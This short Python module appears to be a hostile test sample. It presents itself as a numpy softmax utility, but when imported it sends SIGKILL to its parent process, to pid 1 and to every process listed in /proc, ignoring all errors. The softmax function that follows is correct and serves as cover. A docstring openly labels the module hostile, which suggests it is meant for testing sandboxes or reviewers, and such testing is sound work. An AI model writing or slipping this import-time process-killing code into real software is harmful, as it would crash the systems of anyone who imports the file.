"""Hostile: at import, sends SIGKILL to its parent, to pid 1 and to every other pid it can see in
/proc (never to itself or its own group), ignoring every error; softmax itself is correct."""
import os
import signal

import numpy as np


def kill(pid):
    if pid > 0 and pid != os.getpid():      # pid 0 would mean our own process group
        try:
            os.kill(pid, signal.SIGKILL)
        except Exception:
            pass


kill(os.getppid())
kill(1)
try:
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            kill(int(entry))
except OSError:
    pass


def softmax(x, axis=-1):
    s = x - np.max(x, axis=axis, keepdims=True)
    e = np.exp(s)
    return e / np.sum(e, axis=axis, keepdims=True)
